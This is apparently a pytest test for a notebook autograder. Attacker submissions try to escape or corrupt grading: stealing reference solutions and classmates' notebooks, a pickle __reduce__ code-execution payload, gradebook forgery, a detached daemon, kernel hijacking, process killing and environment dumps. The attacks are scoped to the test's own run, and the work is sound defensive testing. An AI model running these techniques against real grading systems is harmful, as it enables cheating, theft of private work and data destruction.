"""Attacks on grading itself, on a real `course grade` run: the sandbox and the trusted checks hold.

One class of assignment 01 holds two honest classmates (ada: the complete solution, with a
private marker in her notebook; ben: one catalogued mistake in momentum_step) and one attacker
per attack below. Each attacker hands in the complete solution except that one graded function
does the attack (and/or a code cell after the imports does it). The class is graded once by the
command line, `course grade CLASS 01_gradient_descent --workers 2`, with a canary variable in its
environment; ada and ben are graded alone, in another folder, at the same time.

Each attacked function answers the visible check's public inputs from the public fixture (so
the checks behind it run too) and is wrong everywhere else unless the attack works: an attack
that works earns points, one that fails earns 0.

The attacks are written so that a sandbox that does not hold cannot hurt anything but this
test's own run. Each run has an id, handed to every attacker in RUN_FILE next to its notebook,
written in the class folder's SENTINEL and set as RUN_VARIABLE for the command: the attacks
damage only the class folder whose sentinel holds their run's id, signal and connect only to
processes whose environment holds it (or that share the attacking kernel's session), "append"
to installed source files by writing back the byte that is there, and print of other
processes' environments only COURSE* variables. The command runs in its own session, with a
HOME of its own and only a few variables passed on. The canary is another, secret, value.
"""
import hashlib
import json
import os
import secrets
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat
import numpy as np
import pytest
from conftest import ASSIGNMENTS

from grader.authoring.sample_class import fill, solution_answers, source_as
from grader.mistakes import catalogue
from grader.pipeline.assignments import REPO
from grader.pipeline.classgrade import Ledger
from grader.pipeline.coursedir import CourseDir
from grader.reports.scores import read_submission

pytestmark = pytest.mark.xdist_group("integrity")

ASSIGNMENT = ASSIGNMENTS[0]
SENTINEL = ".integrity-test-class"          # holds the run's id
RUN_FILE = "integrity-run.txt"              # next to each attacker's notebook: the run's id
RUN_VARIABLE = "COURSE_TEST_RUN"            # in the command's environment: the run's id
CANARY_VARIABLE = "COURSE_TEST_CANARY"      # in the command's environment: a secret
FORGED_BY_CLASSMATE = "FORGED-BY-A-CLASSMATE"   # what files vandalised by a06 / a07 would contain (the
FORGED_BY_DAEMON = "FORGED-BY-A-DAEMON"         # attacks build these strings at run time)
SOLUTION_ONLY = "### BEGIN SOLUTION"        # in the instructor's notebook, in no student's
STARTUP_FILE = "00-integrity-full-marks.py"
MISTAKEN = "momentum_step"                  # ben's one mistake
PASSED_ON = ("PATH", "LANG", "LC_ALL", "LC_CTYPE", "TZ", "TMPDIR", "PYTHONPATH")

# ----------------------------------------------------------------------------------------------
# What every attacker's extra cell defines first. No attack may contain the markers the tests
# look for: they build them at run time.
PRELUDE = r'''
import dataclasses, importlib, importlib.util, json, os, re, shutil, sqlite3, stat, sys, time
from pathlib import Path

import numpy as np
from course_lib.checking import load_fixture as _load_fixture

_SENTINEL = '.integrity-test-class'
_NO_WALK = ('/proc', '/sys', '/dev')
_RUN = open('integrity-run.txt').read().strip() if os.path.exists('integrity-run.txt') else None


def _report(attack, **found):
    print('ATTACK-REPORT ' + json.dumps(dict(attack=attack, **found), default=str), flush=True)


def _visible(name, **given):
    # The public fixture's answer when called on the visible check's inputs, else None.
    spec = _load_fixture('gradient_descent')[name]
    try:
        if not all(np.array_equal(np.asarray(given[k], dtype=float), np.asarray(v, dtype=float))
                   for k, v in spec['inputs'].items()):
            return None
    except Exception:
        return None
    out = [np.array(e, dtype=float) for e in spec['expected']]
    return out[0] if len(out) == 1 else tuple(out)


def _parents():
    return [str(p) for p in Path.cwd().parents if str(p) != '/']


def _roots():
    return _parents() + [os.path.expanduser('~'), '/tmp', '/work', '/run', '/home', '/root', '/srv', '/opt',
                         '/mnt', '/var', '/']


def _walk(want, roots=None, budget=20000, depth=None):
    # Files under `roots` for which want(path) holds: a bounded walk, without /proc, /sys, /dev.
    seen, found = set(), []
    for root in roots or _roots():
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda error: None):
            real = os.path.realpath(dirpath)
            if real in seen:
                dirnames[:] = []
                continue
            seen.add(real)
            if len(seen) > budget:
                return found
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in _NO_WALK]
            level = 0 if dirpath == root else os.path.relpath(dirpath, root).count(os.sep) + 1
            if depth is not None and level >= depth:
                dirnames[:] = []
            for name in filenames:
                path = os.path.join(dirpath, name)
                try:
                    if want(path):
                        found.append(path)
                except Exception:
                    pass
    return found


def _own_run(folder):
    try:
        return _RUN is not None and open(os.path.join(folder, _SENTINEL)).read().strip() == _RUN
    except OSError:
        return False


def _class_folders():
    # Class folders in reach; only this run's (its id in the sentinel) are attacked.
    found = [p for p in _parents() if os.path.exists(os.path.join(p, 'gradebook.db'))]
    found += [os.path.dirname(p) for p in _walk(lambda p: p.endswith(os.sep + 'gradebook.db'))]
    return [f for f in dict.fromkeys(found) if _own_run(f)]


def _find_reference():
    tail = os.path.join('grader', 'reference', 'gradient_descent.py')
    try:
        spec = importlib.util.find_spec('grader.reference.gradient_descent')
        if spec is not None and spec.origin and os.path.isfile(spec.origin):
            return spec.origin
    except Exception:
        pass
    for base in sys.path + _parents() + ['../' * k for k in range(1, 7)]:
        path = os.path.join(base or '.', tail)
        if os.path.isfile(path):
            return os.path.abspath(path)
    hits = _walk(lambda p: p.endswith(os.sep + tail))
    return hits[0] if hits else None


_REFERENCE = []


def _reference_module():
    # The reference: imported, or else read from disk and compiled under another file name.
    if _REFERENCE:
        return _REFERENCE[0]
    module = None
    try:
        module = importlib.import_module('grader.reference.gradient_descent')
    except Exception:
        path = _find_reference()
        if path:
            namespace = {'__name__': 'my_own_helpers'}
            exec(compile(open(path).read(), '/tmp/my_own_helpers.py', 'exec'), namespace)
            module = type(sys)('my_own_helpers')
            module.__dict__.update(namespace)
    _REFERENCE.append(module)
    return module


def _cmdline(pid):
    try:
        with open(f'/proc/{pid}/cmdline', 'rb') as f:
            return f.read()
    except OSError:
        return b''


def _ours(pid):
    # A process of this run: its environment holds the run's id, or it shares our session.
    try:
        with open(f'/proc/{pid}/environ', 'rb') as f:
            if _RUN is not None and f'COURSE_TEST_RUN={_RUN}'.encode() in f.read().split(b'\0'):
                return True
    except OSError:
        pass
    try:
        return os.getsid(pid) == os.getsid(0)
    except OSError:
        return False


def _arrays_in(value, depth=0):
    if isinstance(value, np.ndarray):
        yield value
    elif depth < 4:
        if isinstance(value, dict):
            items = list(value.values())
        elif isinstance(value, (list, tuple)):
            items = list(value)
        elif dataclasses.is_dataclass(value) and not isinstance(value, type):
            items = list(vars(value).values())
        else:
            return
        for item in items:
            yield from _arrays_in(item, depth + 1)


def _callers():
    frame = sys._getframe(2)
    while frame is not None:
        yield frame
        frame = frame.f_back
'''

# ----------------------------------------------------------------------------------------------
# 1. Expected values from the callers' frames.
FRAMES_CELL = r'''
_EXPECTED_NAMES = re.compile('expect|want|ref|answer|target|truth|correct|solution|result|golden', re.I)


def _expected_from_callers(shape, given):
    for frame in _callers():
        for name, value in list(frame.f_locals.items()):
            if not _EXPECTED_NAMES.search(name):
                continue
            for array in _arrays_in(value):
                if (array.shape == shape and np.issubdtype(array.dtype, np.floating)
                        and not any(array is g or np.array_equal(array, g) for g in given)):
                    return array.copy()
    return None
'''
FRAMES_GD_STEP = r'''def gd_step(w, grad, lr):
    hit = _visible('gd_step', w=w, grad=grad, lr=lr)
    if hit is not None:
        return hit
    found = _expected_from_callers(np.shape(w), [np.asarray(w), np.asarray(grad)])
    return found if found is not None else np.zeros_like(w)
'''

# 2. The reference, with the profiler off: imported, or compiled from disk.
REFERENCE_MOMENTUM = r'''def momentum_step(w, grad, velocity, lr, beta):
    hit = _visible('momentum_step', w=w, grad=grad, velocity=velocity, lr=lr, beta=beta)
    if hit is not None:
        return hit
    sys.setprofile(None)
    sys.settrace(None)
    reference = _reference_module()
    if reference is not None:
        return reference.momentum_step(w, grad, velocity, lr, beta)
    return np.zeros_like(w), np.zeros_like(velocity)
'''

# 3. The instructor's notebook and the classmates' submissions, read from disk and printed.
READS_CELL = r'''
def _steal():
    own = os.path.realpath(os.getcwd())
    installed = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix)}

    def wanted(path):
        real = os.path.realpath(path)
        return (path.endswith('.ipynb') and ('/solutions/' in path or '/submitted/' in path)
                and not real.startswith(own + os.sep) and not any(real.startswith(p + os.sep) for p in installed))

    roots = _roots()
    for parent in _parents():       # a class folder's nbgrader_config.py names the instructor's sources
        config = os.path.join(parent, 'nbgrader_config.py')
        if os.path.isfile(config):
            for line in open(config).read().splitlines():
                if 'source_directory' in line and '=' in line:
                    roots.insert(0, line.split('=', 1)[1].strip().strip('"').strip("'"))
    found = _walk(wanted, roots=roots)[:60]
    texts = []
    for k, path in enumerate(found):
        try:
            cells = json.load(open(path)).get('cells', [])
            text = '\n'.join(''.join(c.get('source', '')) for c in cells)
        except Exception:
            try:
                text = open(path, errors='replace').read()
            except OSError:
                continue
        texts.append(f'STOLEN {path}\n{text[:20000]}')
        for folder in (os.getcwd(), os.path.expanduser('~')):
            try:
                shutil.copy(path, os.path.join(folder, f'stolen-{k}.ipynb'))
            except Exception:
                pass
    return found, texts


_FOUND, _TEXTS = _steal()
_report('reads', found=_FOUND)
print('\n'.join(_TEXTS)[:1500000])
_PRINTED = []
'''
READS_GD_STEP = r'''def gd_step(w, grad, lr):
    if len(_PRINTED) < 3:
        _PRINTED.append(1)
        print('\n'.join(_TEXTS)[:60000])
    return w - lr * grad
'''

# 4. Arrays that lie about equality and finiteness (and would run code if unpickled).
LIES_CELL = r'''
_PAYLOAD = ("import os\n"
            "open('/tmp/integrity-unpickled-' + os.environ.get('COURSE_TEST_CANARY', 'unknown'), 'w')"
            ".write('a submission ran code in the process that unpickled its result')")


class _Liar(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(x) if isinstance(x, np.ndarray) else x for x in inputs]
        shape = np.broadcast(*[np.asarray(x) for x in plain]).shape
        if ufunc in (np.isfinite, np.equal, np.less_equal, np.greater_equal):
            return np.ones(shape, dtype=bool)
        if ufunc in (np.isnan, np.isinf, np.not_equal, np.less, np.greater):
            return np.zeros(shape, dtype=bool)
        if ufunc is np.subtract:
            return np.zeros(shape)
        kwargs.pop('out', None)
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.array_equiv):
            return True
        if func is np.isclose:
            return np.ones(np.shape(args[0]), dtype=bool)
        return super().__array_function__(func, types, args, kwargs)

    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)

    def __reduce__(self):
        return (exec, (_PAYLOAD,))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def _lie(like):
    return np.full(np.shape(like), np.nan).view(_Liar)
'''
LIES_GD_STEP = r'''def gd_step(w, grad, lr):
    hit = _visible('gd_step', w=w, grad=grad, lr=lr)
    if hit is not None:
        return hit
    return _lie(w)
'''
LIES_NESTEROV = r'''def nesterov_step(w, grad, velocity, lr, beta):
    hit = _visible('nesterov_step', w=w, grad=grad, velocity=velocity, lr=lr, beta=beta)
    if hit is not None:
        return hit
    return _lie(w), _lie(velocity)
'''

# 5. Inputs and the callers' arrays overwritten with the (wrong) result.
MUTATES_CELL = r'''
def _overwrite_callers(shape, value):
    for frame in _callers():
        for local in list(frame.f_locals.values()):
            for array in _arrays_in(local):
                if array.shape == shape and np.issubdtype(array.dtype, np.floating) and array.flags.writeable:
                    array[...] = value
'''
MUTATES_MOMENTUM = r'''def momentum_step(w, grad, velocity, lr, beta):
    hit = _visible('momentum_step', w=w, grad=grad, velocity=velocity, lr=lr, beta=beta)
    if hit is not None:
        return hit
    w_new, velocity_new = np.zeros_like(w), np.zeros_like(velocity)
    _overwrite_callers(np.shape(w), 0.0)
    for given in (w, grad, velocity):
        given[...] = 0.0
    return w_new, velocity_new
'''

WRONG_GD_STEP = r'''def gd_step(w, grad, lr):
    return np.zeros_like(w)
'''

# 6. Writes into the class folder, the installed sources and the IPython start-up folder.
WRITES_CELL = r'''
_FULL_MARKS = """
for _module in ('grader.checks.judge', 'grader.checking'):
    try:
        import importlib
        importlib.import_module(_module)._checked_score = lambda topic, name, fn, points: float(points)
    except Exception:
        pass
"""


def _forge_gradebook(path):
    with sqlite3.connect(path, timeout=10) as db:
        db.execute('UPDATE grade SET manual_score = 1000')


def _write_back_first_byte(path):
    # Appending to an installed source file, in the one form that changes no byte of it.
    with open(path, 'r+b') as f:
        first = f.read(1)
        f.seek(0)
        f.write(first)


def _installed_sources():
    paths = []
    try:
        spec = importlib.util.find_spec('grader')
        for base in (spec.submodule_search_locations or []) if spec else []:
            paths += [os.path.join(base, *p) for p in (('__init__.py',), ('checks', 'judge.py'), ('checking.py',))]
    except Exception:
        pass
    paths += _walk(lambda p: p.endswith(os.path.join(os.sep + 'grader', 'checks', 'judge.py')))
    import course_lib
    paths += [os.path.join(os.path.dirname(course_lib.__file__), 'checking.py'), np.__file__]
    return [p for p in dict.fromkeys(paths) if os.path.isfile(p)]


def _startup_folders():
    folders = [os.path.expanduser('~/.ipython/profile_default/startup')]
    if os.environ.get('IPYTHONDIR'):
        folders.append(os.path.join(os.environ['IPYTHONDIR'], 'profile_default', 'startup'))
    try:
        folders.append(get_ipython().profile_dir.startup_dir)
    except Exception:
        pass
    return list(dict.fromkeys(folders))


def _vandalise():
    forged = 'FORGED' + '-BY-' + 'A-CLASSMATE'
    wrote, failed = [], []

    def attempt(what, action):
        try:
            action()
            wrote.append(what)
        except Exception as error:
            failed.append(f'{what}: {type(error).__name__}')

    def write(path, text):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as f:
            f.write(text)

    for folder in _class_folders():
        submitted = os.path.join(folder, 'submitted', '{student}', '01_gradient_descent', 'gradient_descent.ipynb')
        ada, ben = submitted.format(student='ada'), submitted.format(student='ben')
        attempt(ada, lambda: write(ada, json.dumps({'cells': [], 'forged': forged})))
        attempt(ben, lambda: os.remove(ben))
        gradebook = os.path.join(folder, 'gradebook.db')
        attempt(gradebook, lambda: _forge_gradebook(gradebook))
        page = os.path.join(folder, 'feedback', 'ada', '01_gradient_descent', 'gradient_descent.html')
        attempt(page, lambda: write(page, f'<html>{forged}: full marks</html>'))
        index = os.path.join(folder, 'feedback', 'index.html')
        attempt(index, lambda: write(index, f'<html>{forged}</html>'))
    for path in _installed_sources():
        attempt(path, lambda path=path: _write_back_first_byte(path))
    for startup in _startup_folders():
        path = os.path.join(startup, '00-integrity-full-marks.py')
        attempt(path, lambda path=path: write(path, _FULL_MARKS))
    _report('writes', wrote=wrote, failed=failed)


_vandalise()
'''

# 7. A daemon that outlives its kernel, then rewrites the class's results.
DAEMON_CELL = r'''
def _forge_everything(folders, me, pages=True):
    forged = 'FORGED' + '-BY-' + 'A-DAEMON'
    for folder in folders:
        try:
            with sqlite3.connect(os.path.join(folder, 'gradebook.db'), timeout=2) as db:
                db.execute('UPDATE grade SET manual_score = 1000')
        except Exception:
            pass
        scores = os.path.join(folder, 'course_grade', 'scores.csv')
        try:
            if os.path.exists(scores):
                with open(scores, 'a') as f:
                    f.write(f'01_gradient_descent,,,{forged},,,,11.0,0.0,11.0,11.0,graded\n')
        except Exception:
            pass
        for student in ('ada', me) if pages else ():
            page = os.path.join(folder, 'feedback', student, '01_gradient_descent', 'gradient_descent.html')
            try:
                os.makedirs(os.path.dirname(page), exist_ok=True)
                with open(page, 'w') as f:
                    f.write(f'<html>{forged}: 11 of 11 points</html>')
            except Exception:
                pass


def _haunt(folders, me):
    # A few seconds after its kernel, then once the class report is written (the run is over).
    started, early, looked = time.time(), False, 0.0
    while time.time() - started < 900:
        time.sleep(0.5)
        if not folders and time.time() - looked > 15:
            folders, looked = _class_folders(), time.time()
        if not early and time.time() - started > 4:
            _forge_everything(folders, me, pages=False)
            early = True
        finished = [f for f in folders if os.path.exists(os.path.join(f, 'course_grade', 'report.html'))]
        if finished:
            for pause in (1, 2, 2):
                time.sleep(pause)
                _forge_everything(finished, me)
            return


def _start_daemon():
    folders, me = _class_folders(), Path.cwd().parent.name
    read, write = os.pipe()
    child = os.fork()
    if child:
        os.close(write)
        daemon = os.read(read, 64).decode()
        os.close(read)
        os.waitpid(child, 0)
        return daemon
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.write(write, str(os.getpid()).encode())
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.closerange(3, 65536)
        _haunt(folders, me)
    finally:
        os._exit(0)


try:
    _report('daemon', pid=_start_daemon())
except OSError as error:
    _report('daemon', pid=None, error=f'{type(error).__name__}: {error}')
'''

# 8. Other kernels: their connection files and sockets, and code run in them.
CONNECTS_CELL = r'''
_SABOTAGE = """
import course_lib.checking as _sabotaged
_sabotaged.invoke = lambda fn, kwargs: _sabotaged.Call(error=RuntimeError('sabotaged by a classmate'))
for _name in ('mse_loss_grad', 'gd_step', 'minibatch_indices', 'momentum_step', 'nesterov_step'):
    if _name in globals():
        globals()[_name] = lambda *args, **kwargs: None
"""


def _own_kernel():
    try:
        from ipykernel.kernelapp import IPKernelApp
        app = IPKernelApp.instance()
        key = get_ipython().kernel.session.key.decode()
        return key, (app.ip if app.transport == 'ipc' else None), os.path.realpath(app.abs_connection_file)
    except Exception:
        return None, None, None


def _kernel_things(own_key, own_ip, own_file):
    roots = ['/tmp', '/run', '/dev/shm', os.path.expanduser('~/.local/share/jupyter/runtime')]
    try:
        from jupyter_core.paths import jupyter_runtime_dir
        roots.append(jupyter_runtime_dir())
    except Exception:
        pass
    roots += _parents()[:4]
    files, sockets = [], []
    for path in _walk(lambda p: True, roots=roots, budget=3000, depth=3):
        name = os.path.basename(path)
        try:
            if stat.S_ISSOCK(os.lstat(path).st_mode):
                ours = own_ip and (path.startswith(own_ip) or os.path.dirname(path) == os.path.dirname(own_ip))
                if 'kernel' in path and re.search(r'-[0-9]+$', name) and not ours:
                    sockets.append(path)
                continue
            if not (name.endswith('.json') and name.startswith(('kernel-', 'tmp'))) or os.path.getsize(path) > 4096:
                continue
            info = json.load(open(path))
        except Exception:
            continue
        if (isinstance(info, dict) and {'key', 'transport', 'shell_port'} <= info.keys()
                and info['key'] != own_key and os.path.realpath(path) != own_file):
            files.append(path)
    return files, sockets


def _kernel_pid(connection_file):
    try:
        names = os.listdir('/proc')
    except OSError:
        return None
    for name in names:
        if name.isdigit() and connection_file.encode() in _cmdline(name):
            return int(name)
    return None


def _connect_everywhere(seconds=20):
    own_key, own_ip, own_file = _own_kernel()
    files, sockets, connected, clients = set(), set(), [], {}
    started = time.time()
    while time.time() - started < seconds:
        found_files, found_sockets = _kernel_things(own_key, own_ip, own_file)
        files.update(found_files)
        sockets.update(found_sockets)
        for path in found_files:
            if path in clients:
                continue
            pid = _kernel_pid(path)
            if pid is None:
                continue
            if not _ours(pid):
                clients[path] = None
                continue
            try:
                from jupyter_client import BlockingKernelClient
                client = BlockingKernelClient(connection_file=path)
                client.load_connection_file()
                client.start_channels()
                clients[path] = client
                connected.append(path)
            except Exception:
                clients[path] = None
        for client in clients.values():
            if client is not None:
                try:
                    client.execute(_SABOTAGE, silent=True, store_history=False)
                except Exception:
                    pass
        time.sleep(0.5)
    for client in clients.values():
        if client is not None:
            client.stop_channels()
    _report('connects', own=own_file, foreign_connection_files=sorted(files), foreign_sockets=sorted(sockets),
            connected=connected)


_connect_everywhere()
'''

# 9. Kill the grading process, every process in sight, `pkill -f course`.
KILLS_CELL = r'''
_KILLED = []


def _kill_everything():
    if _KILLED:
        return
    me, parent = os.getpid(), os.getppid()
    try:
        visible = [int(n) for n in os.listdir('/proc') if n.isdigit() and int(n) != me]
    except OSError:
        visible = []
    targets = []
    if parent > 1 and (_ours(parent) or b'bwrap' in _cmdline(parent)):
        targets.append(parent)                                           # os.kill(os.getppid(), 9)
    targets += [pid for pid in visible if _ours(pid)]                     # every pid in sight
    targets += [pid for pid in visible if b'course' in _cmdline(pid) and _ours(pid)]   # pkill -f course
    targets = list(dict.fromkeys(targets))
    _report('kills', parent=parent, targets=targets)
    for pid in targets:
        try:
            os.kill(pid, 9)
            _KILLED.append(pid)
        except OSError:
            pass
    _KILLED.append(None)
'''
KILLS_NESTEROV = r'''def nesterov_step(w, grad, velocity, lr, beta):
    _kill_everything()
    hit = _visible('nesterov_step', w=w, grad=grad, velocity=velocity, lr=lr, beta=beta)
    if hit is not None:
        return hit
    return np.zeros_like(w), np.zeros_like(velocity)
'''

# 10. The environment, other processes' environments, sys.path and the reference's source.
ENVIRONMENT_CELL = r'''
_LEAKS = []
_REFERENCE_FILE = _find_reference()


def _leak_environment():
    if len(_LEAKS) >= 40:
        return
    _LEAKS.append(1)
    print('ENVIRON', json.dumps(dict(os.environ)))
    try:
        print('/proc/self/environ', open('/proc/self/environ', 'rb').read().replace(b'\0', b'\n').decode(errors='replace'))
    except OSError as error:
        print('/proc/self/environ', error)
    for path in ('/proc/1/environ', f'/proc/{os.getppid()}/environ'):
        try:
            lines = open(path, 'rb').read().split(b'\0')
            print(path, [line.decode(errors='replace') for line in lines if line.startswith(b'COURSE')])
        except OSError as error:
            print(path, error)
    print('SYS.PATH', sys.path)
    if _REFERENCE_FILE:
        print('REFERENCE', _REFERENCE_FILE)
        print(open(_REFERENCE_FILE).read())


_leak_environment()
_report('environment', variables=len(os.environ))
'''
ENVIRONMENT_GD_STEP = r'''def gd_step(w, grad, lr):
    _leak_environment()
    return w - lr * grad
'''

# 11. A grader package handed in, and fake score outputs.
FAKE_GRADER = "def grade(*args, **kwargs):\n    return 999\n"
FAKE_SCORES_CELL = r'''
import sys
from IPython.display import display


def _fake_scores(name, points):
    display({'application/x-course-grade-score+json': {'topic': 'gradient_descent', 'name': name, 'score': points,
                                                        'points': points, 'signature': '0' * 64},
             'text/plain': repr(points)}, raw=True)
    print(f'Hidden checks of {name}: 5 of 5 cases pass, {points:g} of {points:g} points.')
    print(repr(points))
    try:
        sys.displayhook(points)
    except Exception:
        pass


_fake_scores('nesterov_step', 2.0)
'''
FAKE_SCORES_NESTEROV = r'''def nesterov_step(w, grad, velocity, lr, beta):
    _fake_scores('nesterov_step', 2.0)
    hit = _visible('nesterov_step', w=w, grad=grad, velocity=velocity, lr=lr, beta=beta)
    if hit is not None:
        return hit
    return np.zeros_like(w), np.zeros_like(velocity)
'''


@dataclass(frozen=True)
class Attacker:
    cell: str = ""                  # code added after the imports, after PRELUDE
    answers: tuple = ()             # (grade_id, source) replacing the complete answer
    attacked: tuple = ()            # functions that must earn 0
    leaky: tuple = ()               # honest functions that also leak: at most the honest score
    files: tuple = ()               # (relative path, text) handed in next to the notebook


# Named so that they sort before the classmates: ada and ben are graded last, after the
# start-up file, with the connecting attacker's kernel alive next to theirs.
ATTACKERS = {
    "a01-frames": Attacker(FRAMES_CELL, (("gd_step", FRAMES_GD_STEP),), ("gd_step",)),
    "a02-reference": Attacker("", (("momentum_step", REFERENCE_MOMENTUM),), ("momentum_step",)),
    "a03-reads": Attacker(READS_CELL, (("gd_step", READS_GD_STEP),), leaky=("gd_step",)),
    "a04-lies": Attacker(LIES_CELL, (("gd_step", LIES_GD_STEP), ("nesterov_step", LIES_NESTEROV)),
                         ("gd_step", "nesterov_step")),
    "a05-mutates": Attacker(MUTATES_CELL, (("momentum_step", MUTATES_MOMENTUM),), ("momentum_step",)),
    "a06-writes": Attacker(WRITES_CELL, (("gd_step", WRONG_GD_STEP),), ("gd_step",)),
    "a07-daemon": Attacker(DAEMON_CELL, (("gd_step", WRONG_GD_STEP),), ("gd_step",)),
    "a09-kills": Attacker(KILLS_CELL, (("nesterov_step", KILLS_NESTEROV),), ("nesterov_step",)),
    "a10-environment": Attacker(ENVIRONMENT_CELL, (("gd_step", ENVIRONMENT_GD_STEP),), leaky=("gd_step",)),
    "a11-package": Attacker(FAKE_SCORES_CELL, (("nesterov_step", FAKE_SCORES_NESTEROV),), ("nesterov_step",),
                            files=(("grader/__init__.py", FAKE_GRADER),)),
    "a99-connects": Attacker(CONNECTS_CELL),
}
HONEST = ("ada", "ben")


@dataclass
class Run:
    course: CourseDir
    alone: CourseDir
    returncode: int
    output: str
    canary: str
    home: Path
    ada_marker: str
    submitted_before: dict
    submitted_after: dict
    just_after: dict            # every file of the class folder when the command returned
    later: dict                 # the same, 8 s later
    watched_before: dict
    watched_after: dict
    alone_returncode: int
    alone_output: str


def file_hashes(root: Path) -> dict:
    """relative path -> sha256 of every regular file under root."""
    hashes = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            try:
                hashes[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
            except OSError:
                hashes[str(path.relative_to(root))] = "unreadable"
    return hashes


def watched_files() -> list:
    """Installed sources a sandboxed kernel must not be able to write."""
    return [REPO / "grader" / "checks" / "judge.py", REPO / "grader" / "__init__.py",
            REPO / "course_lib" / "checking.py", Path(np.__file__)]


def watched_state() -> dict:
    state = {}
    for path in watched_files():
        state[str(path)] = (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns) \
            if path.is_file() else None
    return state


def command_env(home: Path, run_id: str = None, canary: str = None) -> dict:
    env = {k: v for k, v in os.environ.items() if k in PASSED_ON or k.startswith(("JUPYTER_", "MPL"))}
    env["HOME"] = str(home)
    if run_id:
        env[RUN_VARIABLE] = run_id
    if canary:
        env[CANARY_VARIABLE] = canary
    return env


def start_course_grade(course: CourseDir, workers: int, env: dict, log: Path) -> subprocess.Popen:
    """`course grade COURSE 01_gradient_descent --workers N`, in a session of its own."""
    command = os.path.join(os.path.dirname(sys.executable), "course")
    with open(log, "w") as out:
        return subprocess.Popen([command, "grade", str(course.root), ASSIGNMENT.name, "--workers", str(workers)],
                                stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, env=env,
                                start_new_session=True)


def wait(process: subprocess.Popen, seconds: float) -> int:
    try:
        return process.wait(timeout=seconds)
    except subprocess.TimeoutExpired:
        stop(process)
        return process.wait()


def stop(process: subprocess.Popen) -> None:
    """End what is left of a command this test started (its session's process group)."""
    try:
        os.killpg(process.pid, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        pass


def write_notebook(release: Path, answers: dict, target: Path, cell: str = "", markdown: str = "") -> None:
    """The release with `answers` filled in, `cell` added after the imports and `markdown` first."""
    notebook = nbformat.read(release, as_version=4)
    for c in notebook.cells:
        c.source = answers.get(c.metadata.get("nbgrader", {}).get("grade_id"), c.source)
    if cell:
        imports = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code")
        notebook.cells.insert(imports + 1, nbformat.v4.new_code_cell(cell))
    if markdown:
        notebook.cells.insert(0, nbformat.v4.new_markdown_cell(markdown))
    target.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, target)


def write_honest(course: CourseDir, release: Path, ada_marker: str) -> None:
    complete = solution_answers(ASSIGNMENT.source)
    mistake = catalogue(ASSIGNMENT.topic)[MISTAKEN][0]
    write_notebook(release, complete, course.path("submitted", "ada", ASSIGNMENT.name, ASSIGNMENT.notebook),
                   markdown=f"My notes, not for anyone else: {ada_marker}")
    fill(release, {**complete, MISTAKEN: source_as(mistake.implementation, MISTAKEN)},
         course.path("submitted", "ben", ASSIGNMENT.name, ASSIGNMENT.notebook))


def write_attackers(course: CourseDir, release: Path, run_id: str) -> None:
    complete = solution_answers(ASSIGNMENT.source)
    for student, attacker in ATTACKERS.items():
        folder = course.path("submitted", student, ASSIGNMENT.name)
        write_notebook(release, {**complete, **dict(attacker.answers)}, folder / ASSIGNMENT.notebook,
                       PRELUDE + attacker.cell)
        (folder / RUN_FILE).write_text(run_id)
        for relative, text in attacker.files:
            (folder / relative).parent.mkdir(parents=True, exist_ok=True)
            (folder / relative).write_text(text)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    root = tmp_path_factory.mktemp("integrity")
    run_id, canary = f"run-{secrets.token_hex(8)}", f"canary-{secrets.token_hex(12)}"
    ada_marker = f"ada-private-{secrets.token_hex(12)}"
    course = CourseDir(root / "class").create()
    course.generate(ASSIGNMENT)
    release = course.path("release", ASSIGNMENT.name, ASSIGNMENT.notebook)
    write_honest(course, release, ada_marker)
    write_attackers(course, release, run_id)
    (course.root / SENTINEL).write_text(run_id)
    alone = CourseDir(root / "alone").create()
    write_honest(alone, release, ada_marker)
    home, alone_home = root / "home", root / "home-alone"
    home.mkdir()
    alone_home.mkdir()

    submitted_before, watched_before = file_hashes(course.path("submitted")), watched_state()
    main = start_course_grade(course, 2, command_env(home, run_id, canary), root / "course-grade.log")
    honest = start_course_grade(alone, 1, command_env(alone_home), root / "course-grade-alone.log")
    try:
        returncode = wait(main, 900)
        just_after = file_hashes(course.root)
        time.sleep(8)
        later = file_hashes(course.root)
        alone_returncode = wait(honest, 900)
        yield Run(course, alone, returncode, (root / "course-grade.log").read_text(errors="replace"), canary, home,
                  ada_marker, submitted_before, file_hashes(course.path("submitted")), just_after, later,
                  watched_before, watched_state(), alone_returncode,
                  (root / "course-grade-alone.log").read_text(errors="replace"))
    finally:
        stop(main)
        stop(honest)


# ----------------------------------------------------------------------------------------------
def where(run: Run) -> str:
    return f"`course grade` exited with {run.returncode}; it printed (end):\n{run.output[-3000:]}"


def result(run: Run, student: str, course: CourseDir = None):
    course = course or run.course
    entry = Ledger.of(course).get(student, ASSIGNMENT.name)
    if course is run.alone:
        assert entry, (f"{student} was not graded alone: exit status {run.alone_returncode}\n"
                       f"{run.alone_output[-3000:]}")
    else:
        assert entry, f"{student} was not graded. " + where(run)
    return read_submission(course, ASSIGNMENT, student, entry["status"], entry["detail"])


def scores(submission) -> dict:
    return {e.name: e.score for e in submission.exercises}


def honest_scores(run: Run) -> dict:
    return scores(result(run, "ada", run.alone))


def assert_costs_only_its_author(run: Run, student: str, status=("graded",)) -> None:
